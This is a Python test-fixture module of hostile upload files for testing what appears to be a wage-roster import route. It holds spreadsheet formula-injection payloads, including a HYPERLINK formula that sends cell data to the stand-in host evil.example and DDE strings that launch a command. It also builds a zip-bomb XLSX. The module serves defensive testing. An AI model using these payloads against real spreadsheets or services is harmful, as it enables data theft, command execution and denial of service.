"""Hostile input files shared by the fuzz tests and the upload-route tests."""

from __future__ import annotations

import io
import zipfile

ROSTER_HEADER = "nik,nama,kategori,jabatan,upah,sumber_dana,kode_desa"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def zip_bomb_xlsx(inflated_mb: int = 200) -> bytes:
    """A small file named like an XLSX whose sheet inflates to `inflated_mb` MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1" r:id="rId1" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
            "</sheets></workbook>",
        )
        chunk = b" " * (1024 * 1024)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            for _ in range(inflated_mb):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def many_columns_csv(n: int) -> bytes:
    return (",".join(f"c{i}" for i in range(n)) + "\n" + ",".join("x" * n) + "\n").encode()


def hostile_files() -> dict[str, tuple[str, bytes]]:
    """id -> (filename, bytes); every one must be refused or reported, never a 500."""
    quoted = '"' + FORMULAS[0].replace('"', '""') + '"'
    bad_row = f"3171010101900001,{quoted},PPU,,,,\n"
    return {
        "empty": ("a.csv", b""),
        "only_spaces": ("a.csv", b"   \n \n"),
        "header_only": ("a.csv", (ROSTER_HEADER + "\n").encode()),
        "one_column": ("a.csv", b"nik\n3171010101900001\n"),
        "random_bytes": ("a.csv", bytes(range(256)) * 8),
        "utf16": ("a.csv", (ROSTER_HEADER + "\n" + bad_row).encode("utf-16")),
        "latin1": (
            "a.csv",
            (ROSTER_HEADER + "\n3171010101900001,Jos\xe9,PPU,,,,\n").encode("latin-1"),
        ),
        "huge_cell": (
            "a.csv",
            (ROSTER_HEADER + "\n3171010101900001," + "A" * 2_000_000 + ",PPU,,,,\n").encode(),
        ),
        "formula": ("a.csv", (ROSTER_HEADER + "\n" + bad_row).encode()),
        "ragged": ("a.csv", (ROSTER_HEADER + "\n1,2\n1,2,3,4,5,6,7,8,9,10\n").encode()),
        "nul_bytes": ("a.csv", (ROSTER_HEADER + "\n").encode() + b"\x00" * 500),
        "not_xlsx": ("a.xlsx", b"PK\x03\x04 this is not a zip at all"),
        "text_as_xlsx": ("a.xlsx", b"nik,nama\n1,2\n"),
        "zip_bomb": ("a.xlsx", zip_bomb_xlsx(64)),
        "many_columns": ("a.csv", many_columns_csv(2_000)),
        "wrong_type": ("a.exe", b"MZ\x90\x00"),
        "no_suffix": ("roster", b"nik,nama\n"),
    }
